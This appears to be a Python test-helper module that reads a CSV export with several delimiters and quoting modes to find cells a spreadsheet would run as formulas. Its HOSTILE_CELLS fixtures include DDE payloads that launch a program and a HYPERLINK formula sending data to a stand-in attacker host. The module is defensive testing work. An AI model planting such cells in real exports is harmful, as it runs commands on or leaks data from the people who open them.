"""Reading an exported CSV the ways a spreadsheet might, to find any cell it would run.

A spreadsheet splits a file on `,`, `;` or tab (its locale's or its guess), and may
honour the file's quotes or misread them; any cell it then holds that starts with a
formula character (after spaces and quotes) runs (a bare number too may start one,
when a reader joins it to the cells after it).
"""

from __future__ import annotations

import csv
import io
import re
from typing import Final

#: Cells that hold a formula at their start or after a delimiter one reader or another uses.
HOSTILE_CELLS: Final = (
    "x;=cmd|' /C calc'!A0",
    "a,=1+1",
    "a\t=1",
    'a; =HYPERLINK("https://evil.example/?leak","x")',
    "@SUM(1)",
    "\"=2+5+cmd|' /C calc'!A0\"",
    "note\n-2+3+cmd|' /C calc'!A0",
    "+1,2+cmd|' /C calc'!A0",
)
#: Hostile cells a contact's name or field may hold (one line, no control characters).
ONE_LINE_HOSTILE: Final = tuple(c for c in HOSTILE_CELLS if not {"\t", "\n"} & set(c))
#: Text with every delimiter in it but no formula: it must come back exactly as it was.
PLAIN_WITH_DELIMITERS: Final = "Ann; Bob, and Carol; see notes \u2013 it's fine"
READ_DELIMITERS: Final = (",", ";", "\t")
_RUNS: Final = re.compile(r"[\s\"]*[=+\-@]")


def formulas_seen(text: str) -> list[str]:
    """Every cell of a whole CSV file that a spreadsheet would run as a formula, read with
    each delimiter, its quotes honoured (as `csv` does) or ignored (split where it stands)."""
    found: list[str] = []
    for delimiter in READ_DELIMITERS:
        lines = io.StringIO(text, newline="")
        quoted = [f for row in csv.reader(lines, delimiter=delimiter) for f in row]
        naive = [f for line in re.split(r"\r\n|\r|\n", text) for f in line.split(delimiter)]
        found += [f"{delimiter!r}: {f!r}" for f in quoted + naive if _RUNS.match(f)]
    return found


def read_back(text: str) -> list[list[str]]:
    """The rows of a whole CSV file, as `csv` reads it."""
    return list(csv.reader(io.StringIO(text, newline="")))
